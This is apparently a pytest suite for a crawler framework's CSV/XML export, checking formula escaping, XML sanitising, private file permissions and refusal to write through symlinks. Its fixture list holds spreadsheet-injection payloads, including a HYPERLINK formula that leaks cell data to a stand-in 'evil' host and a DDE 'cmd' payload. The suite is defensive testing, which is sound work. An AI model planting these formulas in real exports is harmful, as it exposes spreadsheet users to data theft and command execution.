"""Exports of items a hostile site chose: CSV that a spreadsheet cannot run, XML that
always parses. Through the real command (in-process: ``framework.cli.main``) on a real
workspace holding such items. And the feed storage of a crawl's ``-o``/``-O``: private,
never through a symlink."""

from __future__ import annotations

import csv
import io
import os
import stat
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from framework.cli import main
from framework.errors import WorkspaceError
from framework.export import feed_settings
from framework.exporters import FeedFileStorage, csv_safe, xml_text
from framework.workspace import ItemWrite, NewRow, Outcome, Workspace
from tests.crawl.test_crawl_hostile import DETAIL_BY_URL
from tests.crawl.test_crawl_hostile import _write_spec as write_spec

FORMULAS = [
    '=HYPERLINK("http://evil/?leak="&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
]
HOSTILE: dict[str, Any] = {
    "title": FORMULAS[0],
    "cells": FORMULAS[1:],
    "price": -5,  # a number stays a number
    "text_number": "-5.25",  # so does a string that is one
    "control": "a\x00b\x01c\x0bd\ufffee",  # a stored item holds no lone surrogate
    "nested": {"": 6, "1st": "x", "a b": "y", "ok": "z", "x\x00y": "w", "ns:key": "v"},
}


@pytest.fixture
def hostile_ws(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    with Workspace.open(ws) as w:
        (row,) = w.store.seed([NewRow("detail", "http://site/d")])
        w.store.commit(Outcome(row.id, ok=True, items=[ItemWrite("t:1", "t", "1", HOSTILE)]))
    return ws


def _export(ws: Path, out: Path, *extra: str) -> None:
    assert main(["export", "anyjob", "--workspace", str(ws), "-o", str(out), *extra]) == 0


def _cells(path: Path) -> list[str]:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    return [cell for row in rows for cell in row]


def test_csv_cells_never_start_a_formula(hostile_ws: Path, tmp_path: Path) -> None:
    out = tmp_path / "items.csv"
    _export(hostile_ws, out)
    cells = _cells(out)
    assert cells, "nothing exported"
    starts = ("=", "+", "@", "\t", "\r")
    assert [c for c in cells if c.startswith(starts)] == []
    assert [c for c in cells if c.startswith("-") and c not in ("-5", "-5.25")] == []
    assert "'" + FORMULAS[0] in cells  # the text is all there, behind a quote
    assert "-5" in cells
    assert "-5.25" in cells


def test_keep_formulas_writes_the_cells_as_stored(hostile_ws: Path, tmp_path: Path) -> None:
    out = tmp_path / "raw.csv"
    _export(hostile_ws, out, "--keep-formulas")
    assert FORMULAS[0] in _cells(out)


def test_xml_parses_and_keeps_every_key_and_value(hostile_ws: Path, tmp_path: Path) -> None:
    out = tmp_path / "items.xml"
    _export(hostile_ws, out)
    root = ET.parse(out).getroot()  # noqa: S314 - our own file: well-formed, or this raises
    (item,) = root
    assert item.findtext("title") == FORMULAS[0]  # XML has no formulas: as stored
    assert item.findtext("control") == "a\ufffdb\ufffdc\ufffdd\ufffde"
    nested = item.find("nested")
    assert nested is not None
    fields = {f.get("name"): f.text for f in nested.findall("field")}
    assert fields == {"": "6", "1st": "x", "a b": "y", "x\ufffdy": "w", "ns:key": "v"}
    assert nested.findtext("ok") == "z"


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1", "'=1"),
        ("-1", "-1"),
        ("+1.5e3", "+1.5e3"),
        ("-.5", "-.5"),
        ("-1-1", "'-1-1"),
        ("@x", "'@x"),
        ("a=1", "a=1"),
        ("", ""),
        (12, 12),
    ],
)
def test_csv_safe(cell: Any, safe: Any) -> None:
    assert csv_safe(cell) == safe


def test_xml_text_keeps_what_xml_can_carry() -> None:
    assert xml_text("tab\tnl\ncr\r é €") == "tab\tnl\ncr\r é €"
    assert xml_text("\x00\x1f\ud800\uffff") == "\ufffd" * 4


@pytest.mark.process
def test_a_crawls_csv_and_xml_feeds_are_written_as_export_writes_them(
    hostile_server: Any, tmp_path: Path, crawl_cli: Any
) -> None:
    site = hostile_server()
    site.route("/", '<html><body><a href="/p1">1</a></body></html>')
    site.route("/p1", FORMULAS[0])  # the page's whole text is the record's `text`
    spec = write_spec(tmp_path, DETAIL_BY_URL.format(base=site.url))
    csv_out, xml_out = tmp_path / "feed.csv", tmp_path / "feed.xml"
    r = crawl_cli(
        "crawl", str(spec), "--workspace", str(tmp_path / "ws"), "-q",
        "-o", str(csv_out), "-o", str(xml_out),
    )  # fmt: skip
    assert r.returncode == 0, r.stderr[-2000:]
    assert "'" + FORMULAS[0] in _cells(csv_out)
    assert [c for c in _cells(csv_out) if c.startswith("=")] == []
    root = ET.parse(xml_out).getroot()  # noqa: S314 - our own file
    assert [i.findtext("text") for i in root] == [FORMULAS[0]]


# a crawl's -o/-O file -------------------------------------------------------------------
@pytest.fixture
def open_umask() -> Iterator[None]:
    old = os.umask(0o022)  # what most systems start with: 0644 files, 0755 folders
    try:
        yield
    finally:
        os.umask(old)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


def _store(storage: FeedFileStorage, data: bytes) -> None:
    fh = storage.open(None)
    fh.write(data)
    storage.store(fh)


def test_a_feed_file_is_created_private_in_private_folders(
    open_umask: None, tmp_path: Path
) -> None:
    path = tmp_path / "feeds" / "daily" / "items.jsonl"
    _store(FeedFileStorage(str(path)), b"1\n")
    assert (_mode(path), _mode(path.parent), _mode(path.parent.parent)) == (0o600, 0o700, 0o700)
    _store(FeedFileStorage(path.as_uri()), b"2\n")  # -o appends; a file: URI alike
    assert path.read_bytes() == b"1\n2\n"
    path.chmod(0o640)  # the owner's choice stays
    _store(FeedFileStorage(str(path), feed_options={"overwrite": True}), b"3\n")  # -O
    assert (path.read_bytes(), _mode(path)) == (b"3\n", 0o640)


@pytest.mark.parametrize("overwrite", [False, True])
def test_a_feed_file_is_never_written_through_a_symlink(tmp_path: Path, overwrite: bool) -> None:
    """Even when the link appears after the crawl command checked the path."""
    target = tmp_path / "bashrc"
    target.write_bytes(b"# mine\n")
    link = tmp_path / "items.jsonl"
    link.symlink_to(target)
    storage = FeedFileStorage(str(link), feed_options={"overwrite": overwrite})
    with pytest.raises(WorkspaceError, match="is a symbolic link"):
        storage.open(None)
    assert target.read_bytes() == b"# mine\n"
    flag = "-O" if overwrite else "-o"
    with pytest.raises(WorkspaceError, match="is a symbolic link") as caught:
        feed_settings([] if overwrite else [str(link)], [str(link)] if overwrite else [])
    assert str(link) in str(caught.value), flag


def test_a_crawls_feeds_go_through_the_private_storage_and_the_escaping_exporters() -> None:
    from scrapy.settings import Settings

    from framework import scrapy_settings

    settings = Settings()
    settings.setmodule(scrapy_settings, priority="project")
    storages = settings.getwithbase("FEED_STORAGES")
    assert storages[""] == storages["file"] == "framework.exporters.FeedFileStorage"
    exporters = settings.getwithbase("FEED_EXPORTERS")
    assert {f: exporters[f].rsplit(".", 1)[1] for f in ("json", "jsonlines", "jsonl", "jl")} == {
        "json": "JsonExporter",
        "jsonlines": "JsonLinesExporter",
        "jsonl": "JsonLinesExporter",
        "jl": "JsonLinesExporter",
    }


def test_an_export_folder_is_made_private(
    open_umask: None, hostile_ws: Path, tmp_path: Path
) -> None:
    out = tmp_path / "exports" / "2026" / "items.csv"
    _export(hostile_ws, out)
    assert (_mode(out), _mode(out.parent), _mode(out.parent.parent)) == (0o600, 0o700, 0o700)


def test_an_export_to_a_symlink_is_refused_and_its_target_kept(
    hostile_ws: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "bashrc"
    target.write_bytes(b"# mine\n")
    link = tmp_path / "items.jsonl"
    link.symlink_to(target)
    code = main(["export", "anyjob", "--workspace", str(hostile_ws), "-o", str(link)])
    assert code == 2
    assert capsys.readouterr().err.startswith(f"error: {link} is a symbolic link")
    assert target.read_bytes() == b"# mine\n"
    assert link.is_symlink()
